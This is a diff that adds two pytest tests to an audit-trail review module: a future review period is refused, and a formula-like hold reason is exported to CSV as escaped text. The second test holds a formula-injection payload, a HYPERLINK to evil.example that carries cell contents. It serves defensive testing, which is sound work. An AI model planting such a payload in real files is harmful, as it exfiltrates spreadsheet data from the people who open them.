@@ -8,8 +8,8 @@ from datetime import timedelta
 
 import pytest
 
-from tests.network import PASSWORD, advance, order, small_network
-from vein2vein.domain.batch import BatchState
+from tests.network import PASSWORD, act, advance, order, small_network
+from vein2vein.domain.batch import Action, BatchState
 from vein2vein.domain.clock import FixedClock
 from vein2vein.domain.errors import InvalidInput, PermissionDenied, SignatureRefused
 from vein2vein.services import audit_review as review
@@ -102,3 +102,26 @@ def test_the_trail_exports_as_csv_and_pdf(app: App, clock: FixedClock) -> None:
     pdf = review.to_pdf(view, printed_by=crew.qa.actor, printed_at=clock.now())
     assert pdf.startswith(b"%PDF") and len(pdf) > 2000
     assert queries.batch_view(app, lot).batch.state == "RELEASED"
+
+
+def test_a_review_of_a_period_to_come_is_refused(app: App, clock: FixedClock) -> None:
+    crew = small_network(app)
+    future = (clock.now() + timedelta(days=30)).date().isoformat()
+    with pytest.raises(InvalidInput, match="is in the future"):
+        review.record_review(
+            app.uow(),
+            crew.qa,
+            review.AuditFilter.parse(since="2026-01-01", until=future),
+            comment="looks fine",
+            signing=Signing(PASSWORD, "qa.cp1"),
+        )
+
+
+def test_a_reason_that_looks_like_a_formula_is_exported_as_text(app: App) -> None:
+    crew = small_network(app)
+    lot = order(app)
+    act(app, lot, Action.HOLD, reason='=HYPERLINK("http://evil.example/?"&A1,"click")')
+    view = review.audit_trail(app, crew.qa.actor, review.AuditFilter.parse(lot=lot))
+    rows = list(csv.DictReader(io.StringIO(review.to_csv(view))))
+    held = next(r for r in rows if r["action"] == "BatchPutOnHold")
+    assert held["reason"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"click")'
